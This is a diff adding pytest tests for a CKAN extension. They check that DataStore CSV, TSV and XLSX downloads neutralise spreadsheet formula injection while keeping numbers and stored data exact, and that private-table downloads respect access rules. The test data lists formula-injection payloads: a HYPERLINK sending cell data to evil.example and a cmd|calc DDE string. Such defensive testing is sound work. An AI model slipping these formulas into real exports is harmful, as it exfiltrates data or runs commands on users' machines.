@@ -1,0 +1,180 @@
+"""DataStore downloads (/datastore/dump/<id> as CSV, TSV and XLSX) are safe
+to open in a spreadsheet program: a text cell that would run as a formula
+(OWASP "CSV injection") is neutralised on the way out, while the stored data
+stay exact and numbers, negative ones included, are untouched.
+
+The table is written by the OPD's editor through the Action API; the
+downloads are fetched over HTTP as anonymous and opened with the csv module
+and openpyxl."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from typing import Any
+
+import openpyxl
+import pytest
+from auth_matrix import ROLES, AuthRoles, allowed_roles
+from ckan.tests import factories
+
+from ckanext.satudata import exports
+
+pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index")
+
+# Each would run in Excel or LibreOffice (the last two after the tab/CR).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A2,"Klik di sini")',
+    "+62 812 5555 0101",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(B2:B9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+PLAIN = ["Tanah Grogot", "Long Ikis", "a=b", "64.01.04"]
+FIELDS = [
+    {"id": "nama_wilayah", "type": "text"},
+    {"id": "jumlah", "type": "int"},
+    {"id": "perubahan", "type": "numeric"},
+]
+
+
+def _records() -> list[dict[str, Any]]:
+    names = FORMULAS + PLAIN
+    return [
+        {"nama_wilayah": name, "jumlah": 1000 + index * 7 - 5000 * (index % 2), "perubahan": -12.5}
+        for index, name in enumerate(names)
+    ]
+
+
+@pytest.fixture
+def table(app: Any, auth_roles: AuthRoles) -> dict[str, Any]:
+    """A DataStore table of the producer's public dataset, written by its editor."""
+    token = factories.APIToken(user=auth_roles.name("producer"))["token"]
+    dataset = auth_roles.dataset()
+    created = app.post(
+        "/api/action/datastore_create",
+        json={
+            "resource": {"package_id": dataset["id"], "name": "Perubahan penduduk"},
+            "fields": FIELDS,
+            "records": _records(),
+        },
+        headers={"Authorization": token},
+    ).json["result"]
+    return {"id": created["resource_id"], "package_id": dataset["id"]}
+
+
+def _dump(app: Any, resource_id: str, status: int = 200, **params: Any) -> Any:
+    return app.get(f"/datastore/dump/{resource_id}", query_string=params, status=status)
+
+
+def _assert_safe(cells: list[Any]) -> None:
+    for cell in cells:
+        assert not exports.is_formula_like(cell), repr(cell)
+
+
+def test_text_downloads_neutralise_formulas_and_keep_numbers(
+    app: Any, table: dict[str, Any]
+) -> None:
+    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
+        text = _dump(app, table["id"], format=fmt, bom="true").data.decode("utf-8")
+        assert text.startswith("\ufeff")  # bom=true still honoured
+        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))
+        assert rows[0] == ["_id", "nama_wilayah", "jumlah", "perubahan"]
+        body = rows[1:]
+        _assert_safe([cell for row in body for cell in row])
+        assert [row[1] for row in body] == ["'" + f for f in FORMULAS] + PLAIN
+        assert [int(row[2]) for row in body] == [r["jumlah"] for r in _records()]
+        assert {row[3] for row in body} == {"-12.5"}
+        assert any(int(row[2]) < 0 for row in body)
+    # The stored data stay exact.
+    found = app.get(
+        "/api/action/datastore_search", query_string={"resource_id": table["id"], "limit": 100}
+    ).json["result"]["records"]
+    assert [r["nama_wilayah"] for r in found] == FORMULAS + PLAIN
+
+
+def _workbook_rows(data: bytes) -> list[list[Any]]:
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert sheet is not None
+    rows = [list(row) for row in sheet.iter_rows()]
+    assert all(cell.data_type != "f" for row in rows for cell in row)  # no formula cell
+    return rows
+
+
+def test_xlsx_download_is_a_real_workbook(app: Any, table: dict[str, Any]) -> None:
+    response = _dump(app, table["id"], format="xlsx")
+    assert response.headers["Content-Type"].startswith(
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    assert f'filename="{table["id"]}.xlsx"' in response.headers["Content-Disposition"]
+    cells = _workbook_rows(response.data)
+    assert [c.value for c in cells[0]] == ["_id", "nama_wilayah", "jumlah", "perubahan"]
+    body = cells[1:]
+    _assert_safe([cell.value for row in body for cell in row])
+    assert [row[1].value for row in body] == ["'" + f for f in FORMULAS] + PLAIN
+    assert [row[2].value for row in body] == [r["jumlah"] for r in _records()]  # numbers
+    assert all(row[3].data_type == "n" and row[3].value == -12.5 for row in body)
+    assert [row[0].value for row in body] == list(range(1, len(body) + 1))
+
+    # The data table's filtered download sends filters, q, sort and fields.
+    filtered = _dump(
+        app,
+        table["id"],
+        format="xlsx",
+        filters=json.dumps({"nama_wilayah": "Long Ikis"}),
+        fields="nama_wilayah,jumlah",
+    )
+    long_ikis = next(r["jumlah"] for r in _records() if r["nama_wilayah"] == "Long Ikis")
+    assert [[c.value for c in row] for row in _workbook_rows(filtered.data)] == [
+        ["nama_wilayah", "jumlah"],
+        ["Long Ikis", long_ikis],
+    ]
+
+
+def test_bad_dump_parameters_are_a_400_naming_them(app: Any, table: dict[str, Any]) -> None:
+    for params, named in (
+        ({"format": "xlsx", "limit": "banyak"}, "limit"),
+        ({"format": "csv", "offset": "-"}, "offset"),
+        ({"format": "docx"}, "docx"),
+    ):
+        response = _dump(app, table["id"], status=400, **params)
+        assert named in response.data.decode(), params
+
+
+@pytest.mark.ckan_config("ckanext.satudata.exports.neutralise_formulas", "false")
+def test_neutralising_can_be_switched_off(app: Any, table: dict[str, Any]) -> None:
+    rows = list(csv.reader(io.StringIO(_dump(app, table["id"], format="csv").data.decode())))
+    assert [row[1] for row in rows[1:]] == FORMULAS + PLAIN
+    cells = _workbook_rows(_dump(app, table["id"], format="xlsx").data)  # text, not formulas
+    assert [row[1].value for row in cells[1:]] == FORMULAS + PLAIN
+
+
+def test_who_may_download_a_private_table(
+    app: Any, auth_roles: AuthRoles, table: dict[str, Any]
+) -> None:
+    """Dumps follow datastore_search's auth: a private dataset's table is
+    only for those who may see the dataset."""
+    sysadmin = auth_roles.users["sysadmin"]
+    assert sysadmin is not None
+    app.post(
+        "/api/action/package_patch",
+        json={"id": table["package_id"], "private": True},
+        headers={"Authorization": factories.APIToken(user=sysadmin["name"])["token"]},
+    )
+    allowed = allowed_roles(auth_roles, "datastore_search", {"resource_id": table["id"]})
+    assert "anonymous" not in allowed and "other_producer" not in allowed
+    assert "producer" in allowed
+    tokens = {
+        role: factories.APIToken(user=name)["token"]
+        for role in ROLES
+        if (name := auth_roles.name(role))
+    }
+    for fmt in ("csv", "xlsx"):
+        for role in ROLES:
+            headers = {"Authorization": tokens[role]} if role in tokens else {}
+            response = app.get(
+                f"/datastore/dump/{table['id']}", query_string={"format": fmt}, headers=headers
+            )
+            assert response.status_code == (200 if role in allowed else 404), (fmt, role)
